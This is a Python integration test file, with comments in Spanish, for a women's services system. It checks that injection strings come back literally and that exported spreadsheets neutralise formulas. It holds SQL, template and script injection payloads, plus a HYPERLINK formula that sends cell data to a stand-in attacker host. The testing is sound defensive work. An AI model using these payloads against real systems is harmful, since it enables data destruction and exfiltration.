"""Textos hostiles (SQL, plantillas, HTML) en cada campo de texto: se guardan y vuelven tal cual.

Y el nombre con sintaxis Jinja2 llega al CIS literal: los datos nunca se evalúan como plantilla.
"""

import pytest

from omm_pruebas import esperar
from omm_common.tiempo import hoy_honduras

pytestmark = pytest.mark.integracion

M = "0306"
HOSTILES = [
    "Robert'); DROP TABLE beneficiarias;--",
    "{{ 7*7 }} {% for x in range(3) %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<script>alert('x')</script> & \" '",
    "' OR '1'='1",
]


def _iguales(enviado, recibido, donde):
    for campo, valor in enviado.items():
        if isinstance(valor, dict):
            _iguales(valor, recibido[campo], f"{donde}.{campo}")
        elif isinstance(valor, str):
            # Lo único que cambia: los espacios de los extremos, que se recortan siempre.
            assert recibido[campo] == valor.strip(), f"{donde}.{campo}: {recibido[campo]!r} != {valor!r}"


@pytest.mark.parametrize("n, texto", list(enumerate(HOSTILES)))
def test_cada_texto_se_guarda_y_vuelve_literal(sistema, n, texto):
    api, t = sistema.api, f"tecnica.{M}"
    tipo = {"codigo": f"iny_{n}", "nombre": texto, "categoria": "otro", "unidad": texto[:30], "frecuencia_dias": 0}
    r = api.post("/api/v1/ayudas/tipos", t, json=tipo)
    assert r.status_code == 201, r.text
    _iguales(tipo, r.json(), "tipo")
    beneficiaria = {"nombres": texto[:120], "apellidos": texto[:120], "dni": f"0306197000{n:03d}",
                    "fecha_nacimiento": "1970-01-01", "comunidad": texto[:120], "condiciones": ["bajos_recursos"],
                    "consentimiento_salud": False}
    b = api.post("/api/v1/ayudas/beneficiarias", t, json=beneficiaria)
    assert b.status_code == 201, b.text
    _iguales(beneficiaria, api.get(f"/api/v1/ayudas/beneficiarias/{b.json()['id']}", t).json(), "beneficiaria")
    assert api.get("/api/v1/ayudas/beneficiarias", t, params={"q": texto[:40]}).status_code == 200
    e = api.post("/api/v1/ayudas/entregas", t, json={"beneficiaria_id": b.json()["id"], "tipo_codigo": f"iny_{n}",
                                                      "cantidad": 1, "fecha": hoy_honduras().isoformat(),
                                                      "observaciones": texto})
    assert e.status_code == 201, e.text
    assert e.json()["observaciones"] == texto

    capacitacion = {"titulo": texto, "tipo": "taller", "institucion": texto, "facilitador": texto, "lugar": texto,
                    "sesiones": [{"fecha": "2026-02-02", "tema": texto}]}
    c = api.post("/api/v1/capacitaciones", t, json=capacitacion)
    assert c.status_code == 201, c.text
    detalle = api.get(f"/api/v1/capacitaciones/{c.json()['id']}", t).json()
    _iguales({k: v for k, v in capacitacion.items() if k != "sesiones"}, detalle, "capacitacion")
    assert detalle["sesiones"][0]["tema"] == texto
    participante = {"nombres": texto[:120], "apellidos": texto[:120], "comunidad": texto[:120]}
    i = api.post(f"/api/v1/capacitaciones/{c.json()['id']}/inscripciones", t,
                 json={"participante": participante, "consentimiento_salud": False})
    assert i.status_code == 201, i.text
    _iguales(participante, i.json(), "inscripcion")

    caso = {"fecha_atencion": hoy_honduras().isoformat(),
            "sobreviviente": {"nombres": texto[:120], "apellidos": texto[:120], "comunidad": texto[:120]},
            "tipos_violencia": ["psicologica"], "contexto": "otro", "relato": texto, "nivel_riesgo": "bajo",
            "agresor": {"relacion": texto[:60], "sexo": "hombre", "grupo_edad": "30_44"},
            "consentimiento": {"servicios": True, "derivacion": True, "estadisticas": False}}
    k = api.post("/api/v1/casos", t, json=caso)
    assert k.status_code == 201, k.text
    guardado = api.get(f"/api/v1/casos/{k.json()['id']}", t).json()
    _iguales({k_: v for k_, v in caso.items() if k_ != "agresor"}, guardado, "caso")
    s = api.post(f"/api/v1/casos/{k.json()['id']}/seguimientos", t,
                 json={"fecha": hoy_honduras().isoformat(), "tipo": "otro", "nota": texto})
    assert s.status_code == 201, s.text
    assert [x["nota"] for x in s.json()["seguimientos"]] == [texto]
    # La búsqueda por nombre con un texto hostil no rompe nada ni encuentra de más.
    r = api.get("/api/v1/casos", t, params={"q": texto[:60]})
    assert r.status_code == 200 and k.json()["id"] in [x["id"] for x in r.json()["items"]]


def test_un_nombre_con_sintaxis_de_plantilla_llega_literal_al_cis(sistema):
    api, t = sistema.api, f"tecnica.{M}"
    contactos = api.get("/api/v1/notificaciones/destinatarios", f"coordinadora.{M}").json()
    if not any(c["clave"] == "cis" for c in contactos):
        api.put("/api/v1/notificaciones/destinatarios", f"coordinadora.{M}",
                json={"clave": "cis", "nombre": "CIS", "email": "cis.inyeccion.0306@salud.prueba.hn"})
    api.post("/api/v1/ayudas/tipos", t, json={"codigo": "med_iny", "nombre": "Medicamentos",
                                               "categoria": "economica_medicamentos", "unidad": "lempiras",
                                               "frecuencia_dias": 0})
    nombre = "{{ 7*7 }}{{ config }}"
    b = api.post("/api/v1/ayudas/beneficiarias", t, json={
        "nombres": nombre, "apellidos": "{% raw %}Plantilla", "dni": "0306-1971-00799",
        "fecha_nacimiento": "1971-01-01", "comunidad": "Centro", "condiciones": ["enfermedad_base"],
        "consentimiento_salud": True}).json()
    e = api.post("/api/v1/ayudas/entregas", t, json={"beneficiaria_id": b["id"], "tipo_codigo": "med_iny",
                                                      "cantidad": 1, "monto": 100, "fecha": hoy_honduras().isoformat()})
    assert e.status_code == 201, e.text

    def aviso():
        items = api.get("/api/v1/notificaciones", f"cis.{M}", params={"por_pagina": 200}).json()["items"]
        return [n for n in items if n["canal"] == "bandeja" and n["estado"] == "enviada"
                and "Plantilla" in (n["mensaje"] or "")]
    esperar(lambda: aviso(), 60, mensaje="aviso al CIS con el nombre")
    mensaje = aviso()[0]["mensaje"]
    assert "{{ 7*7 }}{{ config }} {% raw %}Plantilla" in mensaje and "49" not in mensaje


def test_un_nombre_que_empieza_con_igual_no_es_formula_en_las_hojas(sistema):
    import io

    from openpyxl import load_workbook
    api, t = sistema.api, f"coordinadora.{M}"
    formula = '=HYPERLINK("http://ataque.example/?d="&A1,"clic")'
    b = api.post("/api/v1/ayudas/beneficiarias", t, json={
        "nombres": formula, "apellidos": "+SUM(1;2)", "dni": "0306-1972-00801", "fecha_nacimiento": "1972-01-01",
        "comunidad": "@Centro", "condiciones": ["bajos_recursos"], "consentimiento_salud": False})
    assert b.status_code == 201, b.text
    r = api.get("/api/v1/ayudas/exportacion", t)
    assert r.status_code == 200
    hoja = load_workbook(io.BytesIO(r.content))["Beneficiarias"]
    fila = next(f for f in hoja.iter_rows() if f[0].value == formula)
    assert [c.data_type for c in fila[:2]] == ["s", "s"] and fila[1].value == "+SUM(1;2)"
    api.put("/api/v1/reportes/textos", t, json={"desafios": formula})
    informe = api.get("/api/v1/reportes/informe", t, params={"formato": "xlsx"})
    celdas = [c for f in load_workbook(io.BytesIO(informe.content))["Informe"].iter_rows() for c in f
              if c.value == formula]
    assert celdas and all(c.data_type == "s" for c in celdas)
